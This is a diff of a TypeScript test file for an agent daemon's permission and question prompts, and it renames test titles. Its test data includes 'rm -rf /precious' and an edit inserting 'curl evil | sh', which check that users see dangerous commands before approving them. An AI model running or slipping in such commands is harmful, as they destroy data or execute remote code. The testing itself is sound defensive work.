@@ -33,7 +33,7 @@ for (const [answer, chosen] of Object.entries({
   })
 }
 
-test('an agent that ends the turn because it was told no has finished it', async () => {
+test('an agent that ends the turn after a rejection has finished it', async () => {
   await using daemon = await startTestDaemon()
   const { last } = await daemon.answer(await daemon.say('permission shell reject_once\nquit'), 'reject_once')
   assert.equal(last.type, 'turn.finished')
@@ -84,7 +84,7 @@ test('a rule that allows does not choose between several options that allow once
   assert.equal((await daemon.answer(paused, 'my')).text, '[my]')
 })
 
-test('a permission shows the whole command, also where the agent told it only before', async () => {
+test('a permission shows the whole command, also if it was sent only before', async () => {
   await using daemon = await startTestDaemon()
   const { question } = await daemon.say('tool shell rm -rf /precious\npermission shell allow_once')
   assert.equal(question?.kind === 'permission' && question.detail, 'rm -rf /precious')
@@ -112,7 +112,7 @@ const form = JSON.stringify({
   required: ['city'],
 })
 
-test('a question has a descriptor for each field, and its message tells the rest', async () => {
+test('a question has a descriptor for each field, and a message', async () => {
   await using daemon = await startTestDaemon()
   const { question } = await daemon.say(`ask ${form}`)
   assert.deepEqual(question, {
@@ -172,7 +172,7 @@ test('an answer to a question that was never asked, or of another session, is un
   }
 })
 
-test('of two answers at once one resumes the run and the other is told so', async () => {
+test('of two concurrent answers one resumes the run and the other is refused', async () => {
   await using daemon = await startTestDaemon()
   const asked = await daemon.say('permission shell allow_once\nwait 1000\nsay done')
   const [first, second] = await Promise.allSettled([daemon.answer(asked, 'allow_once'), daemon.answer(asked, 'cancel')])
@@ -249,7 +249,7 @@ test('eight questions are open at once, and a ninth is refused before its stream
   assert.ok((await daemon.say('permission shell allow_once')).question)
 })
 
-test('a run that has begun, and asks when no more questions may be open, ends as busy', async () => {
+test('a started run that exceeds the open questions ends as busy', async () => {
   await using daemon = await startTestDaemon({ limits: { maxOpenQuestions: 0 } })
   const { last, text, sessionId } = await daemon.say('say hi\npermission shell allow_once\nsay never')
   assert.equal(text, 'hi')
@@ -274,7 +274,7 @@ test('consent to an edit is asked with what would be written, and where', async 
   assert.match(question.detail!, /\n-echo good\n\+curl evil \| sh$/)
 })
 
-test('a long edit is cut with a mark in the question, and told whole as long as it waits', async () => {
+test('a long edit is truncated in the question, and complete while it waits', async () => {
   await using daemon = await startTestDaemon()
   const asked = await daemon.say(`edit big.txt ${JSON.stringify({ after: 'line\n', repeat: 20_000 })}`)
   assert.ok(asked.question?.kind === 'permission')
@@ -307,7 +307,7 @@ test('a question that comes as a permission is asked as a question, and its answ
   assert.deepEqual(JSON.parse(text), { outcome: { outcome: 'selected', optionId: 'proceed_once' }, answers })
 })
 
-test('such a question is asked in self-drive, too, and a no is told as the agent’s own', async () => {
+test('such a question is asked in self-drive too; a rejection uses the agent’s option', async () => {
   await using daemon = await startTestDaemon()
   const asked = await daemon.say(`quiz ${JSON.stringify(quiz)}`, { mode: 'self-drive' })
   const { text } = await daemon.answer(asked, JSON.stringify({ action: 'decline' }))
